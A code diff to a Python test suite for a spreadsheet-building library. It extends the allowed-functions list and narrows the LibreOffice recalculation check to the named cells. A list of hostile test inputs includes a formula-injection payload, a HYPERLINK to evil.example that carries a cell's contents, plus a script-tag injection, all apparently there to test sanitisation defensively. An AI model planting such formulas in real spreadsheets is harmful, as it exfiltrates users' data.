@@ -43,7 +43,8 @@ MILESTONE_PARAMS = {"scenario": "base", "currency": "EUR", "start_year": 2020, "
 HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A3,"Click me")', "+1", "-1",
            "@SUM(1)", "\tleading tab", "#N/A", "<script>alert(1)</script>", "==== title", "#REF!"]
 ALLOWED_FUNCTIONS = {"SUM", "SUMIFS", "COUNTIFS", "SUMPRODUCT", "INDEX", "MATCH", "IF", "AND",
-                     "NOT", "MIN", "MAX", "ABS", "ROUND", "ISNUMBER", "LOWER", "ROWS"}
+                     "NOT", "MIN", "MAX", "ABS", "ROUND", "ISNUMBER", "LOWER", "ROWS", "IFERROR", "INT",
+                     "VALUE", "OR", "TRIM"}
 
 
 # ------------------------------------------------------------------------------ fixtures
@@ -207,7 +208,7 @@ def test_libreoffice_recalculation_matches_library(books, tmp_path, report):
     assert lo.error_cells(wb) == []
     assert lo.named_value(wb, "checks_ok") is True
     for key, expected in library.items():
-        if isinstance(expected, (int, float)):
+        if isinstance(expected, (int, float)) and key in wb.defined_names:  # the named headline cells
             got = lo.named_value(wb, key)
             assert got == pytest.approx(float(expected), rel=1e-9, abs=1e-9), key
     checks = pd.read_excel(tmp_path / path.name, sheet_name="Checks").dropna(subset=["library_value"])
